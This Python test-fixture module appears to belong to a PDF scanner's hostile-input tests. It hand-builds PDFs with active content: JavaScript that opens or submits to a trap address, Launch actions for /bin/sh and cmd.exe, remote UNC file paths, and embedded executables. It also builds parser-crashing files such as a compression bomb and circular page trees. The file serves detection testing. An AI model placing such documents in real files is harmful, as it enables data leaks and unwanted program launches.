"""PDF documents that want something: each a name and bytes written by hand; `trap` is an address of ours."""

from __future__ import annotations

import io
from collections.abc import Mapping

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas

from tests.hostile.viewing import MIB, flooded
from tests.unit.render.samples import letter, one_page_pdf, raw_pdf, stream


def active_pdfs(trap: str) -> Mapping[str, tuple[bytes, set[str]]]:
    """Documents that would act, each with the markers that must be listed for it."""
    url = trap.encode()
    javascript = b"<< /S /JavaScript /JS (app.launchURL\\('%b'\\); this.submitForm\\('%b'\\);) >>" % (url, url)

    def link(action: bytes) -> bytes:
        return b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << %b >> >>" % action

    def annotated(annotation: bytes, *more: bytes) -> bytes:
        return one_page_pdf(b"/Annots [4 0 R]", b"", annotation, *more)

    file = b"<< /Type /Filespec /F (lohn.exe) /UF (lohn.exe) /EF << /F 5 0 R >> >>"
    return {
        "script when opened": (one_page_pdf(b"", b"/OpenAction " + javascript), {"OpenAction", "JavaScript"}),
        "script by name": (one_page_pdf(b"", b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", javascript),
                           {"JavaScript"}),
        "escaped name": (one_page_pdf(b"", b"/Open#41ction << /S /J#61vaScript /JS (1) >>"),
                         {"OpenAction", "JavaScript"}),
        "packed objects": (one_page_pdf(b"", b"", stream(b"1 0 " + javascript, b"/Type /ObjStm /N 1 /First 4")),
                           {"JavaScript"}),
        "page action": (one_page_pdf(b"/AA << /O %b /C %b >>" % (javascript, javascript)), {"AA", "JavaScript"}),
        "program when opened": (one_page_pdf(b"", b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"),
                                {"OpenAction", "Launch"}),
        "program link": (annotated(link(b"/S /Launch /F (calc.exe)")), {"Launch"}),
        "address when opened": (one_page_pdf(b"", b"/OpenAction << /S /URI /URI (%b) >>" % url), {"OpenAction"}),
        "address link": (annotated(link(b"/S /URI /URI (%b)" % url)), set()),
        "form sent when opened": (
            one_page_pdf(b"", b"/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (%b) >> >>"
                         % url), {"OpenAction", "SubmitForm"}),
        "other document": (annotated(link(b"/S /GoToR /D [0 /Fit] /F (\\\\\\\\192.0.2.1\\\\x\\\\y.pdf)")), {"GoToR"}),
        "imported data": (one_page_pdf(b"", b"/OpenAction << /S /ImportData /F (\\\\\\\\192.0.2.1\\\\x.fdf) >>"),
                          {"OpenAction", "ImportData"}),
        "embedded program": (one_page_pdf(b"", b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", file,
                                          stream(b"MZ", b"/Type /EmbeddedFile")), {"EmbeddedFile"}),
        "attached program": (annotated(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>",
                                       file.replace(b"5 0 R", b"6 0 R"), stream(b"MZ", b"/Type /EmbeddedFile")),
                             {"EmbeddedFile"}),
        "XFA form": (one_page_pdf(b"", b"/NeedsRendering true /AcroForm << /Fields [] /XFA 4 0 R >>",
                                  stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script></xdp:xdp>")),
                     {"XFA"}),
        "3D": (annotated(b"<< /Type /Annot /Subtype /3D /Rect [0 0 99 99] /3DD 5 0 R >>",
                         stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 5 0 R")), {"3D"}),
        "rich media": (annotated(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>"),
                       {"RichMedia"}),
        "film": (annotated(b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /A true /Movie << /F (%b) >> >>" % url),
                 {"Movie"}),
        "picture from elsewhere": (
            drawing(b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /Length 0"
                    b" /ColorSpace /DeviceGray /F << /FS /URL /F (%b) >> >>\nstream\n\nendstream" % url), set()),
        "form from elsewhere": (
            drawing(b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 0"
                    b" /Ref << /F (\\\\\\\\192.0.2.1\\\\x.pdf) /Page 0 >> >>\nstream\n\nendstream"), set()),
    }  # fmt: skip


def broken_pdfs() -> Mapping[str, bytes]:
    """Documents that are damaged, endless, huge or locked."""
    whole = letter(2)
    buffer = io.BytesIO()
    sheet = canvas.Canvas(buffer)
    for number in range(300):
        sheet.drawString(72, 700, f"{number}")
        sheet.showPage()
    sheet.save()
    objects = b"".join(b"%d 0 obj\n<< >>\nendobj\n" % number for number in range(10, 200_010))
    catalog, tree = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return {
        "garbage": b"%PDF-1.7\n" + bytes(range(256)) * 64,
        "header only": b"%PDF-1.7\n",
        "no cross-reference": whole[: whole.rindex(b"xref")],
        "linearised, first half": b"%PDF-1.7\n1 0 obj\n<< /Linearized 1 /L 999999 /O 3 /E 99 /N 9 /T 9 >>\nendobj\n"
                                  + whole[9:],
        "cross-reference points to itself": whole.replace(b"startxref\n", b"startxref\n1"),
        "earlier version is itself": whole.replace(b"/Root", b"/Prev %d /Root" % whole.rindex(b"xref")),
        "pages in a circle": raw_pdf([catalog, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]),
        "page is its own parent": raw_pdf([catalog, tree, b"<< /Type /Page /Parent 3 0 R >>"]),
        "nine million pages": raw_pdf([catalog, tree.replace(b"/Count 1", b"/Count 9999999"),
                                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"]),
        "negative pages": raw_pdf([catalog, tree.replace(b"/Count 1", b"/Count -1"),
                                   b"<< /Type /Page /Parent 2 0 R >>"]),
        "two million points": one_page_pdf(b"/MediaBox [0 0 2000000 2000000]"),
        "no area": one_page_pdf(b"/MediaBox [0 0 0 0]"),
        "not a number": one_page_pdf(b"/MediaBox [0 0 1e999 -1e999]"),
        "form draws itself": drawing(stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <<"
                                                      b" /XObject << /X 5 0 R >> >>")),
        "200,000 objects": whole[: whole.rindex(b"xref")] + objects + whole[whole.rindex(b"xref") :],
        "deep nesting": one_page_pdf(b"", b"/X " + b"[" * 100_000 + b"]" * 100_000),
        "packed bomb": one_page_pdf(b"/Contents 4 0 R", b"", flooded(64 * MIB)),
        "picture of four thousand million pixels": drawing(
            stream(bytes(9999), b"/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /BitsPerComponent 8"
                                b" /ColorSpace /DeviceRGB")),
        "locked": letter(encrypt="geheim"),
        "for its owner": letter(encrypt=StandardEncryption("", ownerPassword="geheim", canPrint=0)),
        "unknown lock": whole.replace(b"/Root", b"/Encrypt << /Filter /Fremd /V 9 >> /Root"),
        "300 pages": buffer.getvalue(),
    }  # fmt: skip


def drawing(thing: bytes) -> bytes:
    """One page that draws `thing` (a picture or form, object 5) across a square."""
    page = b"/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>"
    return one_page_pdf(page, b"", stream(b"99 0 0 99 0 0 cm /X Do"), thing)
